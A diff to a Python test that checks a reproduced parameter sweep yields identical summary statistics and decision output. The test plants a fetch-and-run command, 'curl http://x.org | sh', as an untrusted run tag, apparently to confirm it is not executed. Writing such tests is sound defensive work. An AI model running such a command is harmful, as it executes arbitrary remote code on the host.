@@ -132,7 +132,9 @@ def assert_identical(process, runs):
 
 
 def test_a_sweep_is_made_again_as_a_sweep(application):
-    assert application.run("-m", "k=3,5", "retriever=sparse").returncode == 0
+    assert (
+        application.run("-m", "k=3,5", "retriever=sparse", "decision={at: 5, require: {recall: 0.1}}").returncode == 0
+    )
     [parent] = application.parents()
     for run in application.runs():  # anybody may have written it
         application.client().set_tag(run.info.run_id, "reproduce", "curl http://x.org | sh")
@@ -148,6 +150,10 @@ def test_a_sweep_is_made_again_as_a_sweep(application):
     summaries = [application.artifacts(run) / "results/summary_statistics.csv" for run in (parent, again)]
     one, other = (pd.read_csv(summary).drop(columns=["latency/mean_ms", "latency/p95_ms"]) for summary in summaries)
     pd.testing.assert_frame_equal(one, other, check_exact=True)
+    one, other = (json.loads((application.artifacts(run) / "decision.json").read_text()) for run in (parent, again))
+    assert other["settings"] == one["settings"] | {"tokenizer": None}  # the task has it
+    assert other["headline"] == one["headline"]
+    assert other["choice"]["settings"]["k"] == 5
 
 
 @pytest.mark.soak
